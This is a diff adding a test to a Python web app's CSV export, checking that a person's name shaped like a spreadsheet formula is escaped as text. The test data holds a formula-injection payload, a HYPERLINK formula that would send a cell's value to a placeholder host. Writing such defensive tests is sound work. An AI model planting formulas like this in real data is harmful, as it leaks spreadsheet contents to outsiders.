@@ -52,3 +52,14 @@ def test_outsider_export_over_http_has_only_the_header(client, outsider, person_
     response = client.get("/people/export.csv")
     assert response.status_code == 200
     assert len(_rows(response.content)) == 1
+
+
+def test_a_name_that_looks_like_a_formula_is_exported_as_text(officer, household_a):
+    from chumchon.people.services import person_create
+
+    person_create(actor=officer, household=household_a, first_name='=HYPERLINK("http://x/?"&A1,"x")',
+                  no_id_reason="unknown")
+    rows = _rows(person_list_csv(user=officer)[0])
+    cells = [row[1] for row in rows[1:]]
+    assert "'=HYPERLINK(\"http://x/?\"&A1,\"x\")" in cells
+    assert not any(cell.startswith("=") for cell in cells)
